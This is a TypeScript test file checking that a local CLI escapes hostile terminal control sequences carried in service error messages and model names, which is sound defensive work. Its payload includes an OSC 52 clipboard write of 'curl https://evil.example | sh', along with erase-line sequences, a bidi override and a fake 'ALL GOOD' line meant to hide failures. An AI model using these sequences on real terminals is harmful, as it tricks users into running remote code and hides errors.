/**
 * Issue 25 item 2: `npm run local` as a real process, against an emulator whose refusal
 * message is hostile terminal text — OSC 0 (window title), OSC 52 (clipboard), a carriage
 * return and CSI erase-line / cursor-up (erasing the FAILED lines), a fake green "ALL GOOD"
 * on a line of its own, an 8-bit C1 CSI and a bidi override. The output holds none of their
 * control bytes: the text is shown, escaped, on the FAILED line it belongs to.
 */
import { spawn } from 'node:child_process';
import { startFormRecognizerEmulator, type FormRecognizerEmulator } from '../../dev/emulators/formRecognizer';
import { defaultStackResources, settingsForEmulator } from '../../dev/stack';
import { localEnv, ROOT, TSX } from '../support/localProcess';
import { SOURCE, readySourceIds } from './replicationHarness';

const HOSTILE =
  'Refused.\x1b]0;PWNED TITLE\x07' +
  `\x1b]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}\x07` +
  '\r\x1b[2K\x1b[1A\x1b[2K' +
  '\n\x1b[32mALL GOOD: every pair verified\x1b[0m' +
  '\u009b2K\u202eDOOG LLA';

/** The child runs asynchronously: the emulator it talks to answers from this process. */
function runLocal(
  args: string[],
  env: Record<string, string>,
): Promise<{ status: number | null; stdout: Buffer; stderr: Buffer }> {
  return new Promise((resolve, reject) => {
    const child = spawn(TSX, ['dev/local.ts', ...args], { cwd: ROOT, env: localEnv(env) });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (b: Buffer) => out.push(b));
    child.stderr.on('data', (b: Buffer) => err.push(b));
    const timer = setTimeout(() => child.kill('SIGKILL'), 280_000);
    child.on('error', reject);
    child.on('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stdout: Buffer.concat(out), stderr: Buffer.concat(err) });
    });
  });
}

describe('npm run local prints service text without its control sequences (issue 25 item 2)', () => {
  let emulator: FormRecognizerEmulator;
  beforeAll(async () => {
    emulator = await startFormRecognizerEmulator({ resources: defaultStackResources('v2.1'), copyDurationMs: 100 });
  });
  afterAll(async () => {
    await emulator?.close();
  });

  it('a refusal message with OSC 0, OSC 52, CSI erase-line, C1, bidi and a fake ALL GOOD: shown escaped on its FAILED line; exit 1', async () => {
    // Prepare
    const [refused] = readySourceIds(emulator);
    // A model name is service text that reaches the terminal without any error: only the writer sees it.
    const named = '00000000-0000-4000-8000-0000000000a1';
    emulator.addModel(SOURCE, { modelId: named, modelName: 'invoices\x1b]0;NAME TITLE\x07\x1b[2K\u202eeman' });
    emulator.faults.add(SOURCE, {
      kind: 'copyFails',
      code: 'InvalidRequest',
      message: HOSTILE,
      when: (r) => r.modelId === refused,
      times: 100,
    });
    // Act
    const { status, stdout, stderr } = await runLocal(['--once', '--port', '0'], settingsForEmulator(emulator));
    // Assess
    const bytes = Buffer.concat([stdout, stderr]);
    const text = bytes.toString('utf8');
    expect(status).toBe(1);
    expect([...bytes].filter((b) => b === 0x1b || b === 0x07 || b === 0x0d)).toEqual([]);
    // eslint-disable-next-line no-control-regex
    expect(text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g)).toBeNull();
    const lines = text.split('\n');
    const failed = lines.filter((l) => l.includes(`FAILED ${refused}`));
    expect(failed.length).toBeGreaterThan(0);
    for (const l of failed) {
      expect(l).toContain('\\x1b]0;PWNED TITLE\\x07');
      expect(l).toContain('\\x1b[32mALL GOOD');
      expect(l).toContain('\\u202eDOOG LLA');
    }
    const nameRows = lines.filter((l) => l.includes('invoices\\x1b]0;NAME TITLE\\x07\\x1b[2K\\u202eeman'));
    expect(nameRows.length).toBeGreaterThan(0);
    // The fake verdict never stands on a line of its own.
    expect(lines.filter((l) => /ALL GOOD/.test(l) && !l.includes(`FAILED ${refused}`))).toEqual([]);
  }, 300_000);
});
